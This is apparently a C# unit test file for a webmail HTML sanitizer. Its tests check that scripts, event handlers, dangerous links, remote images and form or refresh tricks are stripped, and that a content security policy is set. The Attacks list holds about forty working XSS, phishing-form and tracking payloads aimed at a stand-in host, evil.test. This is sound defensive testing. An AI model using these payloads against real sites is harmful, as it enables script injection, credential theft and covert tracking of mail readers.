using AngleSharp.Html.Parser;
using SaaS.Web.Webmail.Reading;
using Xunit;

namespace SaaS.Web.Tests.Webmail.Reading;

public sealed class MailHtmlTests
{
    private static readonly Uri Origin = new("https://mail.example.test");
    private readonly MailHtml _html = new();

    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"https://evil.test\"></iframe>",
        "<object data=\"https://evil.test/x.swf\"></object><embed src=\"https://evil.test/x.swf\">",
        "<form action=\"https://evil.test\"><input name=p type=password><button>Sign in</button></form>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.test\">",
        "<base href=\"https://evil.test/\">",
        "<link rel=stylesheet href=\"https://evil.test/x.css\">",
        "<style>@import 'https://evil.test/x.css'; body{background:url(https://evil.test/p)}</style>",
        "<div style=\"background-image:url(https://evil.test/p)\">x</div>",
        "<div style=\"background:url('https://evil.test/p')\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"position:fixed;inset:0;z-index:9\">x</div>",
        "<div style=\"color:var(--x,url(https://evil.test))\">x</div>",
        "<body background=\"https://evil.test/p\" onload=alert(1)>x",
        "<table background=\"https://evil.test/p\"><tr><td background=\"https://evil.test/p\">x</td></tr></table>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<video src=\"https://evil.test/v\" poster=\"https://evil.test/p\" onerror=alert(1)></video>",
        "<img srcset=\"https://evil.test/p 1x\" src=\"https://evil.test/q\">",
        "<picture><source srcset=\"https://evil.test/p\"><img src=\"https://evil.test/q\"></picture>",
        "<input type=image src=\"https://evil.test/p\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<p id=main class=topbar name=cookie>clobber</p>",
        "<a href=https://ok.test target=_top>x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<details ontoggle=alert(1) open>x</details>",
        "<font face=\"x\" onmouseover=alert(1)>x</font>",
        "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_that_acts_or_calls_out_survives(string attack)
    {
        var framed = _html.Frame("<p>before</p>" + attack + "<p>after</p>", Options());
        var document = new HtmlParser().ParseDocument(framed.Document);
        var body = document.Body!;
        Assert.Empty(body.QuerySelectorAll(
            "script,style,svg,math,iframe,object,embed,form,input,button,textarea,select,link,meta,base,video,audio,source,template,noscript,title,xmp"));
        foreach (var element in body.QuerySelectorAll("*"))
        {
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), attribute.Name);
                Assert.False(attribute.Name is "id" or "class" or "name" or "srcset" or "background" or "poster", attribute.Name);
            }

            var style = element.GetAttribute("style") ?? "";
            Assert.DoesNotContain("url(", style, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("position", style, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("expression", style, StringComparison.OrdinalIgnoreCase);
            if (element.GetAttribute("href") is { } href)
            {
                Assert.True(href.StartsWith("https://", StringComparison.Ordinal) || href.StartsWith("tel:", StringComparison.Ordinal), href);
                Assert.Equal("_blank", element.GetAttribute("target"));
                Assert.Contains("noopener", element.GetAttribute("rel")!, StringComparison.Ordinal);
            }

            if (element.GetAttribute("src") is { } src)
            {
                Assert.StartsWith("data:image/png", src, StringComparison.Ordinal);
            }
        }

        Assert.DoesNotContain("evil.test/p", body.InnerHtml, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_of_it_reaches_the_editor_either(string attack)
    {
        var document = new HtmlParser().ParseDocument(_html.ForEditor(attack));
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, (string[])["a", "b", "blockquote", "br", "code", "div", "em", "h1", "h2", "h3", "i", "li", "ol", "p", "pre", "s", "strong", "u", "ul"]);
            Assert.All(element.Attributes, a => Assert.Equal("href", a.Name));
            Assert.False(element.GetAttribute("href")?.Contains("script", StringComparison.OrdinalIgnoreCase) == true);
        }
    }

    [Fact]
    public void Remote_images_stay_away_until_asked_for()
    {
        const string Mail = "<img src=\"https://cdn.example.test/a.png\"><img src=\"//cdn.example.test/b.png\"><img src=\"cid:logo\">";
        var off = _html.Frame(Mail, Options());
        Assert.Equal(2, off.BlockedImages);
        Assert.DoesNotContain("cdn.example.test", off.Document, StringComparison.Ordinal);
        Assert.Contains("https://mail.example.test/mail/image/inline", off.Document, StringComparison.Ordinal);

        var on = _html.Frame(Mail, Options() with { Remote = url => "https://mail.example.test/mail/image/" + url.Length });
        Assert.Equal(0, on.BlockedImages);
        Assert.DoesNotContain("cdn.example.test", on.Document, StringComparison.Ordinal);
    }

    [Fact]
    public void The_frame_lets_images_come_from_our_endpoint_only()
    {
        var framed = _html.Frame("<p>x</p>", Options());
        Assert.Contains("default-src 'none'; img-src data: https://mail.example.test/mail/image/;", framed.Document, StringComparison.Ordinal);
    }

    [Fact]
    public void Looks_that_do_no_harm_stay()
    {
        var framed = _html.Frame("<table bgcolor=\"#ff0000\"><tr><td style=\"color:red;padding:4px\"><b>Hello</b></td></tr></table>", Options());
        Assert.Contains("<b>Hello</b>", framed.Document, StringComparison.Ordinal);
        Assert.Contains("padding", framed.Document, StringComparison.Ordinal);
        Assert.True(framed.HasColours);
    }

    [Fact]
    public void Html_becomes_readable_text()
    {
        var text = MailHtml.ToText("<p>Hi <b>you</b>,</p><ul><li>one</li><li>two</li></ul><p>See <a href=\"https://a.test/x\">this</a></p><blockquote><p>old</p></blockquote>");
        Assert.Contains("Hi you,", text, StringComparison.Ordinal);
        Assert.Contains("- one", text, StringComparison.Ordinal);
        Assert.Contains("this <https://a.test/x>", text, StringComparison.Ordinal);
        Assert.Contains("> old", text, StringComparison.Ordinal);
    }

    private static FrameOptions Options() =>
        new(Origin, null, cid => cid == "logo" ? "https://mail.example.test/mail/image/inline" : null, Dark: false);

    [Fact]
    public void A_draft_keeps_its_own_pictures_and_no_others()
    {
        var html = new MailHtml();
        const string Draft = "<p>See <img src=\"cid:a@pasted\"> and <img src=\"https://spy.test/x.png\" onerror=\"x()\"></p>";
        var kept = html.ForEditor(Draft, pictures: true);
        Assert.Contains("cid:a@pasted", kept, StringComparison.Ordinal);
        Assert.DoesNotContain("spy.test", kept, StringComparison.Ordinal);
        Assert.DoesNotContain("onerror", kept, StringComparison.Ordinal);
        Assert.DoesNotContain("<img", html.ForEditor(Draft), StringComparison.Ordinal);
    }
}
